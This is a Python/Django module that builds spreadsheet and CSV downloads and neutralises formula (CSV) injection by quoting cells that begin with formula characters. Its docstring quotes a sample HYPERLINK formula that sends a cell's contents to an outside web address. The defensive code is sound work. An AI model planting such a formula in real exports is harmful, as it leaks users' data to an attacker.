"""Every Excel and CSV file the portal hands out is built here, with its cells made inert.

A name typed as ``=HYPERLINK("http://…?q="&A1,"点击")`` must reach the reader as text, never as a
live formula (OWASP's CSV injection). Any text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is prefixed with a single quote, which spreadsheet programs show as text;
numbers and dates stay numbers and dates. The portal's own imports take the quote off again
(``restore_cell``), so an export edited and re-imported keeps its values.
"""

import csv
import io

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value):
    """``value`` made inert for a spreadsheet: text beginning with a formula character gets a leading quote."""
    if isinstance(value, str) and value.startswith(DANGEROUS_FIRST):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(value) for value in values]


def restore_cell(value):
    """The value ``safe_cell`` was given (for the portal's own imports of its own exports)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(DANGEROUS_FIRST):
        return value[1:]
    return value


def safe_dataset(dataset):
    """A tablib Dataset with every cell made inert (exports built with django-import-export/tablib)."""
    import tablib

    safe = tablib.Dataset(headers=safe_row(dataset.headers or []) or None, title=dataset.title)
    for row in dataset:
        safe.append(safe_row(row))
    return safe


def download(response, filename):
    """``response`` as an attachment named ``filename`` that no cache keeps."""
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    # Personal data: never kept by a browser's or a proxy's cache.
    response["Cache-Control"] = "no-store, private"
    return response


def xlsx_response(*, filename, title, headers, rows):
    """An .xlsx download of one sheet: ``headers`` then ``rows`` (any iterable, written as it streams)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append(safe_row(headers))
    for row in rows:
        sheet.append(safe_row(row))
    response = HttpResponse(content_type=XLSX)
    book.save(response)
    return download(response, filename)


def write_xlsx(target, *, title, headers, rows, progress=None, every=2000):
    """Write one sheet to ``target`` (a path or a binary file) in openpyxl's write-only mode, a row at a time;
    ``progress(n)`` is called every ``every`` rows and at the end. Returns how many rows were written."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append(safe_row(headers))
    written = 0
    for written, row in enumerate(rows, start=1):
        sheet.append(safe_row(row))
        if progress is not None and written % every == 0:
            progress(written)
    book.save(target)
    if progress is not None:
        progress(written)
    return written


def xlsx_file_response(content, filename):
    """Ready .xlsx bytes (from ``xlsx_bytes``) as a download."""
    return download(HttpResponse(content, content_type=XLSX), filename)


def xlsx_bytes(dataset):
    """A tablib Dataset as .xlsx bytes, every cell made inert."""
    return safe_dataset(dataset).export("xlsx")


def csv_response(*, filename, headers, rows):
    """A UTF-8 CSV download (with a BOM, so Excel reads the Chinese) with every cell made inert."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow(safe_row(headers))
    for row in rows:
        writer.writerow(safe_row(row))
    return download(HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8"), filename)


def stamp():
    return timezone.localtime().strftime("%Y%m%d")
